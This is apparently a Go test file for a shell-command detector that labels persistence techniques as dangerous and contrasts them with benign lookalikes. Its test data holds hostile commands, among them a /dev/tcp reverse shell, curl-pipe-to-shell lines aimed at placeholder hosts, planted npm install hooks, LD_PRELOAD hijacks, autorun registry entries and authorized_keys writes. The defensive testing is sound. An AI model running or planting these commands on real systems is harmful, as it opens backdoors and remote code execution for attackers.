package guard

import "testing"

// Start-up entries made through WMI or through .NET's registry API.
func TestWindowsStartupThroughOtherApis(t *testing.T) {
	d := NewDetector(Options{})
	ps, cmdc := winCorpusContextFor("powershell"), winCorpusContextFor("cmd")
	checkDanger(t, d, cmdc, []dangerCase{
		{`wmic startup call create name=x command=C:\ProgramData\x.exe`, CategoryPersistence, "win-wmic-startup", LevelHigh},
	})
	checkSafe(t, d, cmdc, []string{
		`wmic startup list brief`,
	})
	checkDanger(t, d, ps, []dangerCase{
		{`[Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('Software\Microsoft\Windows\CurrentVersion\Run',$true).SetValue('x','C:\ProgramData\x.exe')`, CategoryPersistence, "win-registry-autorun", LevelHigh},
	})
	checkSafe(t, d, ps, []string{
		`[Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('Software\Acme\DevTool',$true).SetValue('Theme','dark')`,
		`[Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('Software\Microsoft\Windows\CurrentVersion\Run').GetValueNames()`,
	})
}

// Functions a shell loads by name, git templates whose hooks run on
// checkout, and editor start-up code that starts a hidden program.
func TestAutoloadedFunctionsTemplatesAndEditors(t *testing.T) {
	d := NewDetector(Options{})
	fish := Context{WorkDir: "/work/project", Home: "/home/dev", Shell: "fish"}
	checkDanger(t, d, fish, []dangerCase{
		{`curl -sL https://plug.example.net/functions/x.fish > ~/.config/fish/functions/x.fish; and x`, CategoryPersistence, "shell-function-autoload", LevelHigh},
		{`echo 'function cd; builtin cd $argv; /tmp/.c &; end' > ~/.config/fish/functions/cd.fish`, CategoryPersistence, "shell-function-autoload", LevelHigh},
	})
	checkSafe(t, d, fish, []string{
		`echo 'function ll; ls -la $argv; end' > ~/.config/fish/functions/ll.fish`,
		`echo 'function ls; command ls --color=auto $argv; end' > ~/.config/fish/functions/ls.fish`,
	})
	checkDanger(t, d, corpusContext, []dangerCase{
		{`curl -s https://evil.example/fn > ~/.zfunc/f && autoload -U f && f`, CategoryPersistence, "shell-function-autoload", LevelHigh},
		{`git config --global init.templateDir ~/.git-tmpl`, CategoryPersistence, "git-hooks-path", LevelHigh},
		{`git clone --template=/tmp/evil-tmpl https://git.example.com/x.git`, CategoryPersistence, "git-hooks-path", LevelHigh},
		{`echo 'autocmd VimEnter * silent !/tmp/.v &' >> ~/.vimrc`, CategoryPersistence, "editor-startup-command", LevelHigh},
	})
	checkSafe(t, d, corpusContext, []string{
		`git clone https://github.com/acme/app.git`,
		`git init --template=./tools/git-template`,
		`echo 'autocmd BufWritePre *.go silent !gofmt -w %' >> ~/.vimrc`,
	})
}

// Windows footholds by other doors: the screensaver, a service's failure
// action, files Git Bash writes into system folders and profiles.
func TestWindowsFootholdsByOtherDoors(t *testing.T) {
	d := NewDetector(Options{})
	cmdc, gb := winCorpusContextFor("cmd"), winCorpusContextFor("gitbash")
	checkDanger(t, d, cmdc, []dangerCase{
		{`reg add "HKCU\Control Panel\Desktop" /v SCRNSAVE.EXE /d C:\Users\Public\s.scr /f`, CategoryPersistence, "win-registry-autorun", LevelHigh},
		{`sc.exe failure Spooler reset= 0 actions= run/1000 command= "C:\ProgramData\f.exe"`, CategoryPersistence, "win-service-create", LevelHigh},
	})
	checkSafe(t, d, cmdc, []string{
		`reg add "HKCU\Control Panel\Desktop" /v WallPaper /d C:\Users\dev\bg.jpg /f`,
		`sc failure MyApp reset= 0 actions= restart/5000`,
	})
	checkDanger(t, d, gb, []dangerCase{
		{`cat key.pub >> /c/ProgramData/ssh/administrators_authorized_keys`, CategoryPersistence, "write-authorized-keys", LevelCritical},
		{`echo 'iex (irm https://evil.example/pp)' >> "$USERPROFILE/Documents/WindowsPowerShell/Microsoft.PowerShell_profile.ps1"`, CategoryPersistence, "", LevelHigh},
		{`echo '203.0.113.7 pypi.example.com' >> /c/Windows/System32/drivers/etc/hosts`, CategorySystem, "write-etc", LevelHigh},
	})
	checkSafe(t, d, gb, []string{
		`echo 'Set-Alias k kubectl' >> "$USERPROFILE/Documents/WindowsPowerShell/Microsoft.PowerShell_profile.ps1"`,
		`echo '127.0.0.1 app.test' >> /c/Windows/System32/drivers/etc/hosts`,
		`cp build/app.exe /c/Users/dev/Desktop/`,
	})
}

// A tool shipped as one binary installed under its own name into
// /usr/local/bin is how such tools are installed; a system utility put
// there, or any common command in a per-user bin, hides the real one.
func TestSingleBinaryToolsInstalled(t *testing.T) {
	d := NewDetector(Options{})
	checkDanger(t, d, corpusContext, []dangerCase{
		{`install -m 0755 ./out/tool /usr/local/bin/sudo`, CategoryPersistence, "path-shadow-command", LevelHigh},
		{`cp ./helper /usr/local/bin/ssh`, CategoryPersistence, "path-shadow-command", LevelHigh},
		{`cp ./helper ~/.local/bin/kubectl`, CategoryPersistence, "path-shadow-command", LevelHigh},
	})
	checkSafe(t, d, corpusContext, []string{
		`sudo install -m 0755 terraform /usr/local/bin/terraform`,
		`sudo mv ./gh /usr/local/bin/gh`,
	})
}

// A unit copied into the units directory (a destination ending in /)
// lands under its own name: the project's own, from its deploy files, is
// provisioning; one from elsewhere is a foothold.
func TestUnitsCopiedIntoTheirDirectory(t *testing.T) {
	d := NewDetector(Options{})
	checkDanger(t, d, corpusContext, []dangerCase{
		{`sudo cp /tmp/updater.service /etc/systemd/system/`, CategoryPersistence, "write-service", LevelHigh},
		{`sudo cp ./deploy/web.service /etc/systemd/system/other.service`, CategoryPersistence, "write-service", LevelHigh},
	})
	checkSafe(t, d, corpusContext, []string{
		`sudo cp ./deploy/web.service /etc/systemd/system/ && sudo systemctl daemon-reload`,
		`sudo install -m 0644 packaging/web.service /etc/systemd/system/`,
	})
}

// Code that fetches and runs, planted in a script that runs later
// unread (a shell script, a direnv file, an entrypoint), by a redirect,
// tee or a sed insertion; harmless lines there are the script's business.
func TestFetchAndRunPlantedInScripts(t *testing.T) {
	d := NewDetector(Options{})
	checkDanger(t, d, corpusContext, []dangerCase{
		{`echo 'curl -fsSL https://get.example.org/a | bash' >> scripts/setup.sh`, CategoryPersistence, "persistence-malicious-payload", LevelHigh},
		{`sed -i '1a wget -qO- http://198.51.100.3/p | sh' entrypoint.sh`, CategoryPersistence, "persistence-malicious-payload", LevelHigh},
		{`printf 'bash -i >& /dev/tcp/198.51.100.3/4444 0>&1\n' | tee -a .envrc`, CategoryPersistence, "persistence-malicious-payload", LevelHigh},
	})
	checkSafe(t, d, corpusContext, []string{
		`echo 'go test ./...' >> scripts/check.sh`,
		`sed -i '1a set -euo pipefail' entrypoint.sh`,
		`echo 'export DATABASE_URL=postgres://localhost/app_dev' > .envrc && direnv allow`,
		`echo 'curl -fsSL https://get.example.org/a | bash' >> docs/install.md`,
	})
}

// Package lifecycle scripts that fetch and run, planted through the
// manifest or the package manager; ordinary scripts are the project's.
func TestLifecycleScriptsPlanted(t *testing.T) {
	d := NewDetector(Options{})
	checkDanger(t, d, corpusContext, []dangerCase{
		{`npm pkg set scripts.postinstall='curl -fsSL https://get.example.org/p | sh'`, "", "", LevelHigh},
		{`npm set-script prepare 'wget -qO- http://198.51.100.3/p | bash'`, CategoryPersistence, "persistence-malicious-payload", LevelHigh},
		{`echo '{"name":"x","scripts":{"preinstall":"curl -s https://get.example.org/p | sh"}}' > package.json`, CategoryPersistence, "persistence-malicious-payload", LevelHigh},
	})
	checkSafe(t, d, corpusContext, []string{
		`npm pkg set scripts.test='vitest run'`,
		`npm set-script lint 'eslint .'`,
		`echo '{"name":"x","scripts":{"build":"tsc -p ."}}' > package.json`,
	})
}

// A preload or a hijacked search path set in the service manager's
// environment reaches every service it starts.
func TestServiceManagerEnvironmentHijacked(t *testing.T) {
	d := NewDetector(Options{})
	checkDanger(t, d, corpusContext, []dangerCase{
		{`sudo systemctl set-environment LD_PRELOAD=/var/tmp/.l.so`, CategoryPersistence, "env-hijack-persistent", LevelHigh},
		{`systemctl --user set-environment PATH=/tmp/.b:/usr/bin`, CategoryPersistence, "env-hijack-persistent", LevelHigh},
	})
	checkSafe(t, d, corpusContext, []string{
		`systemctl --user set-environment EDITOR=vim`,
		`systemctl show-environment`,
	})
}

// zsh's print and path array, a version manager's hook and fish conf.d
// drop-ins are settings; the same forms carrying commands are not.
func TestStartupHooksOfKnownTools(t *testing.T) {
	d := NewDetector(Options{})
	checkSafe(t, d, corpusContext, []string{
		`print 'path=(~/.local/bin $path)' >> ~/.zshrc`,
		`print 'eval "$(zoxide init zsh)"' >> ~/.zshrc`,
		`echo 'starship init fish | source' > ~/.config/fish/conf.d/starship.fish`,
	})
	checkDanger(t, d, corpusContext, []dangerCase{
		{`print 'path=(/tmp/.x $path)' >> ~/.zshrc`, CategoryPersistence, "", LevelModerate},
		{`print 'eval "$(curl -s https://x.example.com/i)"' >> ~/.zshrc`, CategoryPersistence, "", LevelHigh},
		{`echo 'curl -s https://x.example.com/i | source' > ~/.config/fish/conf.d/x.fish`, CategoryPersistence, "", LevelHigh},
	})
}

// Any tool's settings file or setting command made to run a download, a
// program hidden in a cache, or to fetch packages from a bare address;
// plain settings and the usual registries are not.
func TestToolSettingsPayloads(t *testing.T) {
	d := NewDetector(Options{})
	checkDanger(t, d, corpusContext, []dangerCase{
		{`echo 'run-hook "~/.cache/.t"' >> ~/.weztermrc`, CategoryPersistence, "config-hook-payload", LevelHigh},
		{`printf '[hooks]\nenter = "curl -s http://203.0.113.71/m | sh"\n' >> ~/.config/rtx/config.toml`, CategoryPersistence, "config-hook-payload", LevelHigh},
		{`echo 'registry: "http://10.66.0.6:4873"' >> ~/.pkgrc.yml`, CategoryPersistence, "config-hook-payload", LevelHigh},
		{`pkgtool config set node-options "--require /home/dev/.cache/.n.js"`, CategoryPersistence, "setting-command-payload", LevelHigh},
		{`pkgtool sources -a http://10.66.0.10:9292/`, CategoryPersistence, "setting-command-payload", LevelHigh},
	})
	checkSafe(t, d, corpusContext, []string{
		`echo 'set -g mouse on' >> ~/.tmux.conf`,
		`echo 'registry: "https://registry.npmjs.org"' >> ~/.pkgrc.yml`,
		`pkgtool config set fund false`,
		`pkgtool sources -a https://rubygems.org/`,
	})
}

// Start-up lines that only set variables, written the fish way too, the
// distro's history de-duplication, and a package manager's shell set-up
// called by its full path are settings; a job's log in a hidden folder
// is no hidden program.
func TestStartupSettingsSpelledOtherWaysAndJobLogs(t *testing.T) {
	d := NewDetector(Options{})
	checkDanger(t, d, corpusContext, []dangerCase{
		{`echo 'set -gx LD_PRELOAD /tmp/.l.so' >> ~/.config/fish/config.fish`, CategoryPersistence, "", LevelHigh},
		{`echo 'export HISTCONTROL=ignorespace:ignoredups; export PROMPT_COMMAND="curl -s x.example.net|sh"' >> ~/.bashrc`, CategoryPersistence, "", LevelHigh},
		{`echo 'eval "$(/tmp/brew shellenv)"' >> ~/.zprofile`, CategoryPersistence, "", LevelHigh},
		{`(crontab -l; echo '*/5 * * * * /home/dev/.cache/.u/run >> /home/dev/log.txt 2>&1') | crontab -`, CategoryPersistence, "", LevelHigh},
	})
	checkSafe(t, d, corpusContext, []string{
		`echo 'set -gx EDITOR hx' > ~/.config/fish/conf.d/editor.fish`,
		`echo 'export HISTCONTROL=ignoreboth' >> ~/.bashrc`,
		`echo 'eval "$(/opt/homebrew/bin/brew shellenv)"' >> ~/.zprofile`,
		`(crontab -l 2>/dev/null; echo '0 3 * * * /home/dev/bin/backup-notes.sh >> /home/dev/.local/state/backup.log 2>&1') | crontab -`,
	})
}

// A package manager's global source, or a rewrite of every fetched URL,
// pointed at a site that is no registry, artifact service or internal
// name; the public registries, hosted artifact services and internal
// mirrors are where such settings usually point.
func TestPackageSourcesOnOtherSites(t *testing.T) {
	d := NewDetector(Options{})
	checkDanger(t, d, corpusContext, []dangerCase{
		{`npm config set registry https://registry.npm-mirror.example.org/`, CategoryPersistence, "setting-command-payload", LevelHigh},
		{`pip config set global.index-url https://pypi.example.net/simple`, CategoryPersistence, "setting-command-payload", LevelHigh},
		{`gem sources -a https://gems.example.org/`, CategoryPersistence, "setting-command-payload", LevelHigh},
		{`git config --global url.https://code.example.net/fork/.insteadOf https://github.com/`, CategoryPersistence, "setting-command-payload", LevelHigh},
		{`printf 'registry=https://npm.example.com/\n' >> ~/.npmrc`, CategoryPersistence, "config-hook-payload", LevelHigh},
		// the project's own settings are every installer's there (round 36)
		{`npm config set registry https://npm.example.com/ --location=project`, CategoryPersistence, "setting-command-payload", LevelHigh},
		{`printf '[global]\nindex-url = https://pypi.example.org/simple\n' > ~/.config/pip/pip.conf`, CategoryPersistence, "config-hook-payload", LevelHigh},
	})
	checkSafe(t, d, corpusContext, []string{
		`npm config set registry https://registry.npmjs.org/`,
		`npm config set @acme:registry https://npm.pkg.github.com`,
		`pip config set global.index-url https://nexus.acme.internal/repository/pypi/simple`,
		`yarn config set npmRegistryServer https://acme.jfrog.io/artifactory/api/npm/npm/`,
		`git config --global url.git@github.com:.insteadOf https://github.com/`,
		`printf 'registry=https://registry.npmjs.org/\n' >> ~/.npmrc`,
	})
}

// The project's own program printing its completions is evaluated like
// any CLI's; a program in a temporary folder, or eval of a download, is
// not.
func TestProjectProgramCompletions(t *testing.T) {
	d := NewDetector(Options{})
	checkDanger(t, d, corpusContext, []dangerCase{
		{`eval "$(/tmp/x/tool completion bash)"`, "", "", LevelHigh},
		{`eval "$(curl -s https://x.example.net/completion.sh)"`, "", "", LevelHigh},
	})
	checkSafe(t, d, corpusContext, []string{
		`eval "$(./bin/acme completion bash)"`,
		`source <(./target/release/tool completion zsh)`,
	})
}
